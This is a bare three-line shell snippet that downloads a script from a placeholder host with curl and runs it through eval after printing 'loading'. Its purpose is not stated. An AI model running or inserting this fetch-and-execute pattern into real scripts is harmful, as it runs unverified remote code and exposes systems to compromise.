code=$(curl -s http://example.com/a.sh)
echo "loading"
eval "$code"
